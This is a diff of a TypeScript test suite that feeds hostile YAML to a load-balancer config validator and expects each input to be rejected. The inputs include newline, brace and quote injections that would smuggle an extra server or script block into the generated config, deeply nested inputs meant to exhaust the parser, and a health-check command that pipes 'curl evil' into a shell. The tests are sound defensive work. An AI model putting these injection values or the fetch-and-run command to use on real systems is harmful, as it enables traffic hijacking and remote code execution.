@@ -36,7 +36,7 @@ const CASES: Array<{ name: string; path: () => string; code: string }> = [
   { name: 'deeply nested input', path: () => file('deep.yaml', 'a:\n' + Array.from({ length: 200 }, (_, i) => ' '.repeat(i + 1) + '- \n').join('')), code: 'YAML_TOO_DEEP' },
   { name: 'deeply nested flow input', path: () => file('deepflow.yaml', 'x: ' + '['.repeat(5000) + ']'.repeat(5000) + '\n'), code: 'YAML_RESOURCE_EXHAUSTION' },
   { name: 'a newline injected into a server name', path: () => file('inject1.yaml', example.replace('name: master-0', 'name: "master-0\\n    server evil 6.6.6.6:6443"')), code: 'BAD_STRING' },
-  { name: 'a brace injected into the interface', path: () => file('inject2.yaml', example.replace('interface: eth0', 'interface: "eth0 }\\nvrrp_script x {"')), code: 'BAD_STRING' },
+  { name: 'a brace injected into the interface', path: () => file('inject2.yaml', example.replace('  prefix: 32\n', '  prefix: 32\n  interface: "eth0 }\\nvrrp_script x {"\n')), code: 'BAD_STRING' },
   { name: 'a quote injected into the auth pass', path: () => file('inject3.yaml', example.replace('routerId: 18', 'routerId: 18\n  auth: { pass: "a\\"\\n}" }')), code: 'BAD_STRING' },
   { name: 'a shell command as the check', path: () => file('inject4.yaml', example.replace('check: { interval: 1', 'check: { command: "/bin/sh -c \'curl evil|sh\'", interval: 1')), code: 'BAD_STRING' },
   { name: 'an env: secret with a newline', path: () => file('inject5.yaml', example.replace('routerId: 18', 'routerId: 18\n  auth: { pass: "env:LBBAKE_HOSTILE" }')), code: 'AUTH_PASS_CHARS' },
